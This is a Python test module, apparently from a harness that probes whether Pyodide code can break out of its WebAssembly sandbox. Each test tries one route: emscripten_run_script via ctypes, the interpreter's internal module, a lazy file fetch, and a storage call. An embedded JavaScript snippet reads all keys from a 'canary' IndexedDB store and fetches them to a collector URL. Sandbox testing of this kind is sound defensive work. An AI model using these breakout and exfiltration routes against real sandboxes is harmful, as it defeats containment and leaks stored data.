"""Ways out through the machine that Python runs on. What is refused there kills Python, so each is tried alone."""

import asyncio
import ctypes
import sys

import js
import pyodide_js
from pyodide.ffi import to_js
from trying import COLLECTOR, probe, run

ONLY = open("only.txt").read()
_LEAK = """indexedDB.open('canary').onsuccess = ({ target }) => {
  const all = target.result.transaction('keys').objectStore('keys').getAll()
  all.onsuccess = () => fetch('%s?' + all.result)
}"""


def alone(attempt):
    return probe(attempt) if attempt.__name__ == ONLY else attempt


@alone
async def ctypes_run_script(at):
    ctypes.CDLL(None).emscripten_run_script((_LEAK % at).encode())
    await asyncio.sleep(0.5)


@alone
async def ctypes_run_script_string(at):
    ctypes.CDLL(None).emscripten_run_script_string((_LEAK % at).encode())
    await asyncio.sleep(0.5)


@alone
def lazy_file(at):
    pyodide_js.FS.createLazyFile("/", "lazy", at, True, False)
    return open("/lazy").read()


@alone
async def module_of_the_interpreter(at):
    pyodide_js._module._emscripten_run_script(pyodide_js._module.stringToNewUTF8(_LEAK % at))
    await asyncio.sleep(0.5)


@alone
async def persistence(_):
    """Firefox never answers that, and waits by itself where others refuse."""
    await js.navigator.storage.persisted()
    await js.navigator.storage.estimate()
    return "taken"


run()
